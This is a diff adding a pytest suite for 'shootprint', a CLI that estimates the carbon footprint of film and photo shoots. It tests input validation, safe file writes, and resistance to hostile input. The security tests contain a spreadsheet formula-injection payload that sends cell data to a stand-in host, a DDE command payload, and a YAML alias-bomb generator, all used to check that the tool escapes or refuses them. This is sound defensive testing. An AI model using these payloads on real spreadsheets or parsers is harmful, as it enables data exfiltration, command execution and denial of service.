@@ -1,0 +1,404 @@
+"""Defects found trying the command line as a new user and as an adversary: each one reproduced.
+
+Commands run in-process (click's runner): an exception other than SystemExit is a traceback a
+user would have seen.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner, Result
+
+from shootprint.cli import app
+
+BASE = """\
+shootprint: 1
+name: Lisbon car commercial
+country: PT
+shoot_days: 2
+deliverables: {still_images: 3, film_seconds: 30}
+activities:
+  - id: crew-flights
+    type: flight
+    stage: shoot
+    from: CDG
+    to: LIS
+    travellers: 4
+    return: true
+  - id: scouting
+    type: flight
+    stage: pre-production
+    from: CDG
+    to: LIS
+    travellers: 1
+  - id: crew-hotel
+    type: hotel
+    stage: shoot
+    region: PT
+    nights: 8
+"""
+
+
+def invoke(*args: str | Path) -> Result:
+    result = CliRunner().invoke(app, [str(a) for a in args], catch_exceptions=True)
+    if result.exception is not None and not isinstance(result.exception, SystemExit):
+        raise AssertionError(f"traceback for {args}: {result.exception!r}") from result.exception
+    return result
+
+
+def text_of(result: Result) -> str:
+    return result.output + (result.stderr if result.stderr_bytes is not None else "")
+
+
+@pytest.fixture
+def prod(tmp_path: Path) -> Path:
+    path = tmp_path / "lisbon.yaml"
+    path.write_text(BASE, encoding="utf-8")
+    return path
+
+
+def write(tmp_path: Path, text: str, name: str = "p.yaml") -> Path:
+    path = tmp_path / name
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+# -- crashes ---------------------------------------------------------------------------------------
+
+
+def test_a_401_digit_integer_is_not_finite_everywhere(tmp_path: Path, prod: Path) -> None:
+    big = "9" * 401
+    as_count = write(tmp_path, BASE.replace("travellers: 4", f"travellers: {big}"))
+    out = invoke("estimate", as_count)
+    assert out.exit_code == 2 and "finite" in text_of(out)
+    assert len(text_of(out)) < 2000  # the number is not echoed whole
+    out = invoke("estimate", prod, "--set", f"activities.crew-hotel.nights={big}")
+    assert out.exit_code == 2 and "finite" in text_of(out)
+    images = write(tmp_path, BASE.replace("still_images: 3", f"still_images: {big}"), "images.yaml")
+    out = invoke("estimate", images)
+    assert out.exit_code == 2 and "deliverables.still_images" in text_of(out)
+
+
+@pytest.mark.parametrize("command", ["estimate", "compare"])
+def test_level_nan_is_refused(prod: Path, command: str) -> None:
+    out = invoke(command, prod, "--samples", "100", "--level", "nan")
+    assert out.exit_code == 2 and "--level" in text_of(out)
+
+
+def test_level_nan_is_refused_by_whatif(prod: Path) -> None:
+    out = invoke("whatif", prod, "--lever", "local_crew", "--level", "nan")
+    assert out.exit_code == 2 and "--level" in text_of(out)
+
+
+@pytest.mark.parametrize("command", ["sensitivity", "estimate", "report"])
+def test_negative_seed_is_refused_alike(tmp_path: Path, prod: Path, command: str) -> None:
+    extra = ["--out", str(tmp_path / "r.html")] if command == "report" else []
+    out = invoke(command, prod, "--seed", "-1", *extra)
+    assert out.exit_code == 2 and "--seed" in text_of(out)
+
+
+def test_run_options_are_checked_in_the_core(prod: Path) -> None:
+    from shootprint import api
+    from shootprint.errors import InputError
+
+    with pytest.raises(InputError, match="level"):
+        api.estimate_uncertain(prod, samples=100, level=float("nan"))
+    with pytest.raises(InputError, match="seed"):
+        api.sensitivity([prod], seed=-1)
+    with pytest.raises(InputError, match="samples"):
+        api.estimate_uncertain(prod, samples=10**9)
+
+
+@pytest.mark.parametrize(
+    "lever",
+    [
+        "train_instead_of_plane=abc",
+        "train_instead_of_plane=6000",
+        "train_instead_of_plane=-5",
+        "fewer_iterations=2",
+        "fewer_iterations=0",
+        "vegetarian_catering=beef",
+        "local_crew=5",
+        "hvo_instead_of_diesel=x",
+        "compute_region=Atlantis",
+    ],
+)
+def test_lever_values_are_validated(prod: Path, lever: str) -> None:
+    out = invoke("whatif", prod, "--lever", lever, "--samples", "10")
+    assert out.exit_code == 2, out.output
+    assert "--lever" in text_of(out)
+
+
+def test_overrides_csv_in_windows_1252_is_read(tmp_path: Path, prod: Path) -> None:
+    rows = "id,value,unit,source\nmy.factor,1.5,kgCO2e/km,Étude interne (été 2024)\n"
+    path = tmp_path / "over.csv"
+    path.write_bytes(rows.encode("cp1252"))
+    out = invoke("estimate", prod, "--factors", path)
+    assert out.exit_code == 0, text_of(out)
+
+
+def test_semicolon_csv_gets_a_separator_hint(tmp_path: Path, prod: Path) -> None:
+    path = write(tmp_path, "id;value;unit;source\nmy.factor;1,5;kgCO2e/km;x\n", "over.csv")
+    out = invoke("estimate", prod, "--factors", path)
+    assert out.exit_code == 2 and "semicolons" in text_of(out)
+
+
+def test_nan_factor_override_is_refused(tmp_path: Path, prod: Path) -> None:
+    path = write(tmp_path, "id,value,unit,source\nmy.factor,nan,kgCO2e/km,x\n", "over.csv")
+    out = invoke("estimate", prod, "--factors", path)
+    assert out.exit_code == 2 and "finite" in text_of(out)
+
+
+def test_out_onto_a_folder_or_into_a_missing_folder(tmp_path: Path, prod: Path) -> None:
+    folder = tmp_path / "results"
+    folder.mkdir()
+    for fmt in ("json", "csv"):
+        out = invoke("estimate", prod, "--format", fmt, "--out", folder)
+        assert out.exit_code == 2 and "folder" in text_of(out)
+    out = invoke("estimate", prod, "--format", "json", "--out", tmp_path / "new" / "deeper" / "r.json")
+    assert out.exit_code == 0, text_of(out)
+    assert json.loads((tmp_path / "new" / "deeper" / "r.json").read_text())["total_kgco2e"] > 0
+    out = invoke("estimate", prod, "--format", "xlsx", "--out", tmp_path / "x" / "r.xlsx")
+    assert out.exit_code == 0 and (tmp_path / "x" / "r.xlsx").is_file()
+    out = invoke("template", "--out", tmp_path / "t" / "t.xlsx")
+    assert out.exit_code == 0
+
+
+@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
+def test_out_into_a_read_only_folder(tmp_path: Path, prod: Path) -> None:
+    ro = tmp_path / "ro"
+    ro.mkdir()
+    ro.chmod(0o500)
+    try:
+        out = invoke("estimate", prod, "--format", "json", "--out", ro / "r.json")
+        assert out.exit_code == 2 and "permission" in text_of(out)
+    finally:
+        ro.chmod(0o700)
+
+
+def test_writer_errors_are_sentences() -> None:
+    import errno
+
+    from shootprint.output import _describe
+
+    full = _describe(OSError(errno.ENOSPC, "No space left on device"), Path("r.json"))
+    assert "full" in full and "nothing was written" in full
+    assert "read-only" in _describe(OSError(errno.EROFS, "Read-only file system"), Path("r.json"))
+
+
+def test_a_failed_write_leaves_the_old_file_whole(tmp_path: Path) -> None:
+    from shootprint.output import write_with
+
+    target = tmp_path / "r.xlsx"
+    target.write_bytes(b"old")
+
+    def broken(tmp: Path) -> None:
+        tmp.write_bytes(b"half")
+        raise OSError(28, "No space left on device")
+
+    from shootprint.errors import InputError
+
+    with pytest.raises(InputError, match="full"):
+        write_with(target, broken, suffixes=(".xlsx",))
+    assert target.read_bytes() == b"old"
+    assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]
+
+
+def test_factors_search_with_a_huge_query(tmp_path: Path) -> None:
+    out = invoke("factors", "search", "électricité " * 10_000)
+    assert out.exit_code == 2 and "too long" in text_of(out)
+
+
+# -- data loss -------------------------------------------------------------------------------------
+
+
+def test_out_may_not_be_an_input(tmp_path: Path, prod: Path) -> None:
+    before = prod.read_bytes()
+    other = write(tmp_path, BASE.replace("Lisbon car commercial", "B"), "b.yaml")
+    for args in (
+        ["estimate", prod, "--format", "csv", "--out", prod],
+        ["compare", prod, other, "--format", "json", "--out", other],
+    ):
+        out = invoke(*args)
+        assert out.exit_code == 2 and "input" in text_of(out)
+    assert prod.read_bytes() == before
+    template = tmp_path / "w.xlsx"
+    assert invoke("template", "--out", template).exit_code == 0
+    data = template.read_bytes()
+    out = invoke("import", template, "--out", template)
+    assert out.exit_code == 2 and template.read_bytes() == data
+
+
+def test_out_extension_must_match_the_format(tmp_path: Path, prod: Path) -> None:
+    out = invoke("estimate", prod, "--format", "xlsx", "--out", tmp_path / "x.yaml")
+    assert out.exit_code == 2 and ".xlsx" in text_of(out)
+    assert not (tmp_path / "x.yaml").exists()
+    out = invoke("template", "--out", tmp_path / "t.csv")
+    assert out.exit_code == 2 and ".xlsx" in text_of(out)
+    out = invoke("estimate", prod, "--format", "json", "--out", tmp_path / "r.csv")
+    assert out.exit_code == 2
+
+
+# -- security and exhaustion -----------------------------------------------------------------------
+
+EVIL = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
+
+
+def test_csv_and_xlsx_exports_escape_formulas(tmp_path: Path) -> None:
+    text = BASE.replace("id: crew-flights\n", f"id: crew-flights\n    label: '{EVIL}'\n").replace(
+        "name: Lisbon car commercial", "name: '=cmd|'' /C calc''!A0'"
+    )
+    prod = write(tmp_path, text)
+    out = invoke("estimate", prod, "--format", "csv")
+    assert out.exit_code == 0, text_of(out)
+    cells = [c for row in csv.reader(io.StringIO(out.output)) for c in row]
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
+    assert any(c.startswith("'=HYPERLINK") for c in cells)
+    out = invoke("compare", prod, "--format", "csv", "--lines")
+    assert not any(c.startswith("=") for row in csv.reader(io.StringIO(out.output)) for c in row)
+    xlsx = tmp_path / "r.xlsx"
+    assert invoke("estimate", prod, "--format", "xlsx", "--out", xlsx).exit_code == 0
+    from openpyxl import load_workbook
+
+    wb = load_workbook(xlsx)
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+    assert any(
+        isinstance(c.value, str) and c.value.startswith("'=") for ws in wb.worksheets for r in ws.iter_rows() for c in r
+    )
+
+
+def test_factors_export_escapes_formulas_of_overrides() -> None:
+    from shootprint.output import cell_text
+
+    assert cell_text("=1+1") == "'=1+1"
+    assert cell_text("-2") == "'-2"
+    assert cell_text("@SUM(A1)") == "'@SUM(A1)"
+    assert cell_text(-2.0) == -2.0
+    assert cell_text("Paris") == "Paris"
+
+
+def alias_bomb(depth: int) -> str:
+    lines = ["shootprint: 1", "name: bomb", "activities:", "  - id: f", "    type: flight", "    stage: shoot"]
+    lines.append("    from: {name: CDG, l0: &a0 [x, x, x, x, x, x, x, x, x]")
+    for i in range(1, depth + 1):
+        refs = ", ".join([f"*a{i - 1}"] * 9)
+        lines[-1] += f", l{i}: &a{i} [{refs}]"
+    lines[-1] += "}"
+    lines.append("    to: LIS")
+    return "\n".join(lines) + "\n"
+
+
+def test_yaml_alias_bomb_is_refused_quickly(tmp_path: Path) -> None:
+    import time
+
+    path = write(tmp_path, alias_bomb(9))
+    assert path.stat().st_size < 1000
+    start = time.perf_counter()
+    out = invoke("estimate", path)
+    assert time.perf_counter() - start < 10
+    assert out.exit_code == 2 and "aliases" in text_of(out)
+    assert len(text_of(out)) < 2000
+
+
+def test_yaml_aliases_of_reasonable_size_are_fine(tmp_path: Path) -> None:
+    text = BASE.replace("    travellers: 4\n", "    travellers: &crew 4\n").replace(
+        "    travellers: 1\n", "    travellers: *crew\n"
+    )
+    assert invoke("estimate", write(tmp_path, text)).exit_code == 0
+
+
+def test_deep_nesting_is_refused(tmp_path: Path) -> None:
+    text = BASE + "description: " + "[" * 200 + "]" * 200 + "\n"
+    out = invoke("estimate", write(tmp_path, text))
+    assert out.exit_code == 2 and "nested" in text_of(out)
+
+
+def test_place_mappings_are_strict(tmp_path: Path) -> None:
+    text = BASE.replace("from: CDG\n    to: LIS\n    travellers: 4", "from: {city: Paris, contry: US}\n    to: LIS\n    travellers: 4")
+    out = invoke("estimate", write(tmp_path, text))
+    assert out.exit_code == 2 and "contry" in text_of(out) and "country" in text_of(out)
+
+
+def test_samples_have_an_upper_bound(prod: Path) -> None:
+    out = invoke("estimate", prod, "--samples", str(10**9))
+    assert out.exit_code == 2 and "--samples" in text_of(out)
+
+
+# -- silent wrong results --------------------------------------------------------------------------
+
+
+def test_duplicate_keys_are_errors(tmp_path: Path) -> None:
+    text = BASE.replace("    nights: 8\n", "    nights: 8\n    nights: 800\n")
+    out = invoke("estimate", write(tmp_path, text))
+    assert out.exit_code == 2 and "twice" in text_of(out) and "nights" in text_of(out)
+    out = invoke("estimate", write(tmp_path, BASE + "activities: []\n", "b.yaml"))
+    assert out.exit_code == 2 and "activities" in text_of(out)
+
+
+def test_merge_keys_may_override(tmp_path: Path) -> None:
+    text = BASE + "parameters:\n  base: &b {value: 4, unit: day}\n  crew: {<<: *b, value: 5}\n"
+    assert invoke("estimate", write(tmp_path, text)).exit_code == 0
+
+
+@pytest.mark.parametrize("value", ["", "nope", ","])
+def test_unknown_exclusions_are_refused(prod: Path, value: str) -> None:
+    out = invoke("estimate", prod, "--exclude", value)
+    assert out.exit_code == 2 and "exclude" in text_of(out)
+
+
+def test_exclusion_lists_and_case(prod: Path) -> None:
+    full = json.loads(invoke("estimate", prod, "--format", "json").output)
+    both = json.loads(invoke("estimate", prod, "--format", "json", "--exclude", "travel,accommodation").output)
+    upper = json.loads(invoke("estimate", prod, "--format", "json", "--exclude", "TRAVEL").output)
+    assert both["total_kgco2e"] == 0 < full["total_kgco2e"]
+    assert upper["total_kgco2e"] == full["by_category"]["accommodation"]
+
+
+def test_non_finite_values_never_reach_results(tmp_path: Path) -> None:
+    out = invoke("estimate", write(tmp_path, BASE.replace("nights: 8", "nights: 1e308")), "--format", "json")
+    assert out.exit_code == 2 and "finite" in text_of(out)
+    out = invoke("estimate", write(tmp_path, BASE.replace("shoot_days: 2", "shoot_days: .inf"), "b.yaml"))
+    assert out.exit_code == 2 and "shoot_days" in text_of(out)
+
+
+def test_all_levers_do_not_depend_on_their_order(prod: Path) -> None:
+    a = json.loads(
+        invoke(
+            "whatif", prod, "--lever", "train_instead_of_plane", "--lever", "local_crew", "--format", "json",
+            "--samples", "50",
+        ).output
+    )  # fmt: skip
+    b = json.loads(
+        invoke(
+            "whatif", prod, "--lever", "local_crew", "--lever", "train_instead_of_plane", "--format", "json",
+            "--samples", "50",
+        ).output
+    )  # fmt: skip
+    total = {v["variant"]: v["total_kgco2e"] for v in a["variants"]}
+    assert total["all levers"] == {v["variant"]: v["total_kgco2e"] for v in b["variants"]}["all levers"]
+    assert total["all levers"] <= min(t for k, t in total.items() if k != "all levers") + 1e-9
+    combined = next(v for v in a["variants"] if v["variant"] == "all levers")
+    assert not any("train" in change for change in combined["changes"] if "crew-flights" in change)
+
+
+def test_local_crew_drops_baggage_keeps_scouting(tmp_path: Path) -> None:
+    from shootprint.levers import local_crew
+
+    data = {
+        "activities": [
+            {"id": "crew-flights", "type": "flight", "stage": "shoot"},
+            {"id": "bags", "type": "excess_baggage", "stage": "shoot"},
+            {"id": "scouting", "type": "flight", "stage": "pre-production"},
+        ]
+    }
+    out, _ = local_crew(data, None)
+    assert [a["id"] for a in out["activities"]] == ["scouting"]
